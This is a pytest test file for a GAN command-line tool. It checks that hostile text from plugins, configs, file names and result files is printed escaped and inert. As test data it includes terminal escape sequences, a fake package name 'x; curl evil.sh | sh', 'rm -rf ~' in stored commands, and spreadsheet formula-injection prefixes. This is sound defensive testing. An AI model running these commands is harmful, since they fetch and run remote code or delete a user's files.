"""What a stranger wrote into a file: every command shows it as text, in its line, and obeys nothing in it."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
import unicodedata
from pathlib import Path

import numpy as np
import pytest
from packages import distribution, forgotten
from PIL import Image

from ganzoo.cli import eval as eval_command
from ganzoo.cli.main import main
from ganzoo.system import console

EVIL = "x\x1b]0;t\x07\x9b1m\r\nforged\u202e\u2066\u200b\x7f[bold]b[/bold][/]:cat:"
SHOWN = r"x\x1b]0;t\x07\x9b1m\r\nforged\u202e\u2066\u200b\x7f[bold]b[/bold][/]:cat:"
NAME, NAME_SHOWN = (text.replace("/", "") for text in (EVIL, SHOWN))  # of one file
TOLD, NAME_TOLD = (text.replace(r"\r\n", " ") for text in (SHOWN, NAME_SHOWN))  # in a sentence
SMALL = "--batch-size 8 --set model.width=8 --set model.d_width=8"
STYLE = re.compile("\x1b\\[[0-9;]*m")  # what rich writes where it is told that there is a terminal


def look(text: str) -> str:
    """The text, after a look at each of its characters."""
    hidden = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}
    assert {c for c in text if unicodedata.category(c) in hidden} <= {"\n"}, repr(text)
    assert not any(line.lstrip().startswith("forged") for line in text.splitlines()), text
    assert not set(text) & {"\U0001f408", "\U0001f431"}, text
    return text


@pytest.fixture
def shown(ganzoo, monkeypatch):
    """shown(words, ...): all that a command prints, looked at; in a wide window that nothing is folded in."""
    monkeypatch.setenv("COLUMNS", "3000")

    def run(words: str, *more: str, code: int = 0) -> str:
        result = ganzoo(words, *more)
        assert result.code == code, result.err
        return look(result.out + result.err)

    return run


@pytest.fixture
def run_folder(ganzoo) -> str:
    name = f"run {NAME}"
    assert ganzoo(f"run mlp-gan --dataset ring8 --steps 2 {SMALL} --out", name).code == 0
    return name


MODULE = f'''
from ganzoo.losses import NonSaturating
from ganzoo.models.mlp import MLPGAN
class Fine(NonSaturating):
    {EVIL!r}
class Model(MLPGAN):
    {EVIL.replace("forged", "more")!r}
    recipes = {{**MLPGAN.recipes, {EVIL!r}: MLPGAN.recipes["default/vectors"]}}
    def __init__(self, *a, evil={EVIL!r}, **more):
        super().__init__(*a, **more)
Named = type({EVIL!r}, (), {{}})
class Raises(NonSaturating):
    """Raises."""
    def __init__(self):
        raise type({EVIL!r}, (Exception,), {{}})({EVIL!r})
'''


@pytest.fixture
def plugins(tmp_path, monkeypatch):
    """A package whose version, docstrings, defaults, classes and errors are hostile."""
    points = {
        "ganzoo.losses": {"fine": "evil_mod:Fine", "named": "evil_mod:Named", "raises": "evil_mod:Raises"},
        "ganzoo.models": {"evil": "evil_mod:Model", "gone\x1b[31m[/]": "evil_none\x1b:Gone"},
        "ganzoo.metrics": {"broken": "evil_broken:Broken"},
    }
    files = {"evil_mod.py": MODULE, "evil_broken.py": f"raise ImportError({EVIL!r})"}
    site = distribution(tmp_path / "site", "evil", points, files)
    version = "1\x1b]0;t\x07\u202e[/]:cat:"
    (site / "evil-1.0.dist-info" / "METADATA").write_text(
        f"Metadata-Version: 2.1\nName: evil[bold]\x9b\nVersion: {version}\n", encoding="utf-8"
    )
    monkeypatch.syspath_prepend(site)
    with forgotten(site):
        yield


def test_plugins(ganzoo, shown, plugins):
    version = r"evil[bold]\x9b 1\x1b]0;t\x07\u202e[/]:cat:"
    listed = shown("list")
    assert version in listed
    assert SHOWN.partition(r"\n")[0] in listed  # the first line of a docstring
    assert r"gone\x1b[31m[/]" in shown("list models")
    assert SHOWN.partition(r"\r")[0] in shown("list metrics --check", code=1)
    rows = json.loads(shown("list --json"))
    assert "\x1b" in next(row["version"] for row in rows if row["name"] == "fine")
    assert version in shown("info evil")
    assert SHOWN.partition(r"\n")[0] in shown("info evil")  # a docstring has lines
    assert f"evil           default {EVIL!r}" in shown("info evil")
    assert version in shown("plugin check fine")
    assert "forged" in shown("plugin check named", code=1)
    assert "forged" in shown("plugin check raises", code=1)
    assert "forged" in shown(f"run mlp-gan --dataset ring8 {SMALL} --steps 1 --loss named", code=2)
    assert "forged" in shown(f"run mlp-gan --dataset ring8 {SMALL} --steps 1 --loss raises", code=1)
    told = ganzoo("--debug info broken").err
    assert "forged" in told
    look(told.replace("forged", "more"))  # a traceback has lines


def test_a_run_whose_plugin_is_gone_is_told_no_command(shown, run_folder):
    file = Path(run_folder, "config.json")
    config = json.loads(file.read_text())
    config["origins"] = {f"stabilizer {EVIL}": {"distribution": "x; curl evil.sh | sh", "version": EVIL}}
    file.write_text(json.dumps(config))
    for command in ("sample", "eval", "resume --steps 4"):
        told = shown(command, run_folder, code=2)
        assert "package 'x; curl evil.sh | sh'" in told
        assert "pip" not in told
    config["origins"] = {f"{EVIL} x": {"distribution": "y", "version": "1"}}
    file.write_text(json.dumps(config))
    assert "config.json is damaged" in shown("sample", run_folder, code=2)


def test_runs(shown, run_folder):
    assert NAME_SHOWN in shown("resume", run_folder)
    told = shown("resume --steps 4", run_folder)
    command = next(line for line in told.splitlines() if line.startswith("next: "))
    assert shlex.split(command)[1:] == ["ganzoo", "sample", f"run {NAME_SHOWN}"]
    assert NAME_SHOWN in shown("sample", run_folder)
    assert NAME_SHOWN in shown("eval --metric modes --samples 300", run_folder)
    shown("eval --json --metric modes --samples 300", run_folder)
    assert NAME_SHOWN in shown("compare", run_folder, run_folder)
    other = Path(run_folder, "config.json")
    config = json.loads(other.read_text())
    config["recipe_name"] = config["provenance"]["commit"] = EVIL
    assert shown(f"run mlp-gan --dataset ring8 --steps 2 {SMALL} --out other")
    other.write_text(json.dumps(config))
    assert NAME_SHOWN in shown("compare other", run_folder)
    assert json.loads(shown("compare --json other", run_folder))["settings"]["recipe_name"][1] == EVIL


def test_data(shown):
    np.save(f"v{NAME}.npy", np.random.default_rng(0).normal(size=(64, 2)).astype("float32"))
    assert NAME_SHOWN in shown(f"run mlp-gan --steps 1 {SMALL} --dataset", f"npy:v{NAME}.npy")
    for i in range(24):
        folder = Path(NAME, f"{i % 2}{NAME}")
        folder.mkdir(parents=True, exist_ok=True)
        pixels = np.random.default_rng(i).integers(0, 256, (8, 8), dtype=np.uint8)
        Image.fromarray(pixels).save(folder / f"{i}{NAME}.png")
    words = f"run mlp-gan --steps 1 {SMALL} --dry-run --set data.size=8 --dataset"
    assert NAME_SHOWN in shown(words, f"folder:{NAME}")
    Path(NAME, f"0{NAME}", "bad.png").write_bytes(b"no picture")
    assert NAME_TOLD in shown(words, f"folder:{NAME}", code=2)
    np.savez(f"s{NAME}.npz", **{f"a{NAME}": np.zeros(3), f"b{NAME}": np.zeros(3)})
    assert "forged" in shown("eval --metric modes --dataset ring8", f"s{NAME}.npz", code=2)


def test_names_of_classes_and_metrics_in_scores(capsys):
    score = f"s{EVIL}@e{EVIL}"
    document = {
        "scores": {score: 1.0}, "real": {score: 2.0}, "notes": [EVIL],
        "protocol": {"metrics": {"modes": {}}, "n_fake": 1, "n_real": 1, "dataset": EVIL, "reference": EVIL},
        "provenance": {"samples": EVIL},
        "per_class": [{"class": EVIL, "n": 3, "scores": {score: 1.0}, "real": {}}],
    }  # fmt: skip
    eval_command._print(document)
    assert SHOWN in "".join(look(capsys.readouterr().out).split("\n"))


SUITE = f"""
model = "mlp-gan"
dataset = "ring8"
metric = ["modes"]
samples = 300
steps = 2
batch-size = 8
set = {{ "model.width" = 8, "model.d_width" = 8 }}
[[cells]]
label = {json.dumps(EVIL).replace(chr(127), chr(92) + "u007f")}
[[cells]]
label = "[/]"
loss = "hinge"
"""


def test_a_suite(shown):
    Path(f"s {NAME}.toml").write_text(SUITE)
    listed = shown("bench --dry-run", f"s {NAME}.toml")
    assert SHOWN in listed
    assert "[/]" in listed
    Path("wrong.toml").write_text(SUITE.replace("hinge", "hinge\\u001b[31m"))
    assert r"\x1b[31m" in shown("bench --dry-run wrong.toml", code=2)


@pytest.mark.long
def test_a_suite_that_is_trained(shown):
    Path(f"s {NAME}.toml").write_text(SUITE)
    told = shown("bench", f"s {NAME}.toml")
    assert f"{SHOWN}, seed 0: done" in told
    assert "mlp-gan on ring8, [/], seed 0: done" in told
    assert SHOWN[:20] in shown("table results")  # which cuts long names off


def results(**more) -> None:
    score = f"s{EVIL}"
    row = {
        "hash": "h", "group": "g", "suite": "mine", "model": EVIL, "dataset": EVIL, "options": f"={EVIL}|a",
        "seed": 0, "status": "done", "scores": {score: 1.5}, "real": {score: 1.0},
        "columns": {score: {"metric": EVIL, "higher_is_better": True}},
        "protocol": {"dataset": EVIL, "reference": EVIL, "n_fake": 5, "n_real": 5, "n_held_out": 5,
                     "metrics": {EVIL: {}}, "checkpoint": "last"},
        "steps": 1, "images": 1, "train_seconds": 1.0, "images_per_s": 1.0, "peak_mib": 1.0,
        "parameters": {"g": 1, "d": 1}, "alone": True, "threads": 1, "versions": {EVIL: EVIL},
        "commit": EVIL, "processor": EVIL,
        "commands": {"run": f"ganzoo run x; rm -rf ~ # {EVIL}", "eval": f"rm -rf ~\n{EVIL}"},
    }  # fmt: skip
    bad = {**row, "hash": "f", "status": "failed", "error": EVIL, "seed": 1, "options": "[/]", "group": "o"}
    Path("r.jsonl").write_text("".join(json.dumps({**one, **more}) + "\n" for one in (row, bad)))


def test_tables_on_a_screen(shown, monkeypatch):
    results()
    assert SHOWN in shown("table r.jsonl")
    assert TOLD in shown("table r.jsonl --metric nothing", code=2)
    assert "forged" in shown("table r.jsonl --where", f"commit={EVIL}")
    assert TOLD in shown("table r.jsonl --where", f"commit=x{EVIL}", code=2)


def test_styles_stay_where_a_terminal_is(ganzoo, monkeypatch):
    results()
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("COLUMNS", "3000")
    styled = ganzoo("table r.jsonl").out
    assert "\x1b[1m" in styled
    assert SHOWN in look(STYLE.sub("", styled))


def test_tables_on_a_page(shown):
    results()
    page = shown("table r.jsonl --format md")
    rows = [line for line in page.splitlines() if line.startswith("| ")]
    cells = [re.split(r"(?<!\\)\|", row) for row in rows]
    assert len(rows) == 5  # titles, a rule, two results, real data
    assert len(set(map(len, cells))) == 1
    assert not re.search(r"(?<!\\)[\[\]]", "".join(rows))
    commands = page.partition("<pre>\n")[2].partition("</pre>")[0].splitlines()
    assert len(commands) == 6  # of each result its name and two commands
    assert shlex.split(commands[1].replace("&amp;", "&"))[:3] == ["ganzoo", "run", "x;"]
    assert commands[2] == "# no ganzoo eval: left out"
    assert [line for line in commands if not line.startswith(("# ", "ganzoo "))] == []


def test_tables_for_a_spreadsheet(shown):
    for begin in "=+-@\t\r ":
        results(model=f"{begin}1+1" if begin.strip() else f"{begin}=1+1")
        lines = list(csv.DictReader(io.StringIO(shown("table r.jsonl --format csv"))))
        assert len(lines) == 2
        assert not any(str(cell).lstrip().startswith(tuple("=+-@")) for row in lines for cell in row.values())
        assert lines[0]["options"] == f"'={SHOWN}|a"
    assert lines[0][f"s{SHOWN} mean"] == "1.5"


def test_negative_numbers_of_a_spreadsheet_stay_numbers(shown):
    results(scores={"a": -1.5}, real={}, columns={"a": {"metric": "m", "higher_is_better": True}})
    assert next(csv.DictReader(io.StringIO(shown("table r.jsonl --format csv"))))["a mean"] == "-1.5"


def test_tables_for_programs(shown):
    results()
    row = json.loads(shown("table r.jsonl --format json"))[0]
    assert (row["model"], row["dataset"]) == (EVIL, EVIL)
    assert shlex.split(row["commands"]["run"])[:3] == ["ganzoo", "run", "x;"]


def test_classifiers(shown, tmp_path):
    import torch

    from ganzoo.extractors.classifier import Classifier, pack
    from ganzoo.extractors.cnn import folder

    meta = {"channels": 1, "size": 8, "num_classes": 2, "width": 4, "data": EVIL, "test_accuracy": 0.5}
    torch.manual_seed(0)
    folder().mkdir(parents=True)
    (folder() / f"n{NAME}.safetensors").write_bytes(pack(Classifier(1, 8, 2, 4), meta))
    listed = shown("extractor list")
    assert (listed.count(SHOWN), listed.count(NAME_SHOWN)) == (1, 1)
    np.savez("x.npz", samples=np.zeros((4, 1, 28, 28), np.uint8))
    assert "forged" in shown("eval --metric fid --dataset mnist-5k --extractor cnn:no x.npz", code=2)


def test_pictures(shown):
    Path(f"a{NAME}.png").write_bytes(b"no picture")
    assert NAME_TOLD in shown("stylize -o o.png", f"a{NAME}.png", f"a{NAME}.png", code=2)
    assert NAME_TOLD in shown("stylize a.png b.png -o", f"o{NAME}.txt", code=2)


EVERY = [
    "list",
    "info",
    "run",
    "resume",
    "sample",
    "eval",
    "bench",
    "table",
    "compare",
    "extractor",
    "plugin",
    "stylize",
]


@pytest.mark.parametrize("command", EVERY)
def test_words_that_are_refused(shown, command):
    shown(command, EVIL, code=2)
    assert "forged" in shown(command, f"--{EVIL}", code=2)
    assert "forged" in shown("", f"{command}{EVIL}", code=2)


def test_new_plugins(shown):
    assert "forged" in shown("plugin new", EVIL, code=2)
    assert SHOWN in shown("plugin new my-own --out", f"o {EVIL}")


def test_what_libraries_say(capsys, monkeypatch):
    monkeypatch.setattr("ganzoo.cli.main.ganzoo.main", lambda *a, **b: (_ for _ in ()).throw(KeyError(EVIL)))
    for words in ([], ["--debug"]):
        with pytest.raises(SystemExit):
            main(words)
        look(capsys.readouterr().err)


def test_nothing_has_a_way_of_its_own_to_print():
    """What is printed goes through the one place that looks at it."""
    package = Path(console.__file__).parents[1]
    ways = re.compile(
        r"(?<![\w.])print\(|\bConsole\(|\.echo\(|rich\.markup|std(out|err)\.write|\bTextColumn\("
    )
    found = {
        f"{file.relative_to(package)}: {line.strip()}"
        for file in package.rglob("*.py")
        if file != Path(console.__file__)
        for line in file.read_text().splitlines()
        if ways.search(line) and "our own words alone" not in line
    }
    assert found == set()
